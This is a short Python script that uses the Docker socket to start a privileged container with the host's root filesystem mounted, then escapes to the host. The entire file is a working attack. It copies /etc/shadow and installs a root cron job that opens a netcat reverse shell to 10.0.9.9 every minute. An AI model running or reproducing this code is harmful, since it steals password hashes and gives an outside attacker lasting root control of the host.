import http.client
import json
import socket


class Unix(http.client.HTTPConnection):
    def __init__(self, path):
        super().__init__("localhost")
        self.path = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect(self.path)


def call(method, url, body=None):
    c = Unix("/var/run/docker.sock")
    c.request(method, url, json.dumps(body) if body else None, {"Content-Type": "application/json"})
    r = c.getresponse().read()
    return json.loads(r) if r else {}


spec = {
    "Image": "alpine:3",
    "Cmd": ["chroot", "/h", "sh", "-c", "cat /etc/shadow > /tmp/s; echo '* * * * * root nc 10.0.9.9 4444 -e /bin/sh' > /etc/cron.d/z"],
    "HostConfig": {"Binds": ["/:/h"], "Privileged": True, "PidMode": "host", "NetworkMode": "host"},
}
cid = call("POST", "/containers/create", spec)["Id"]
call("POST", f"/containers/{cid}/start")
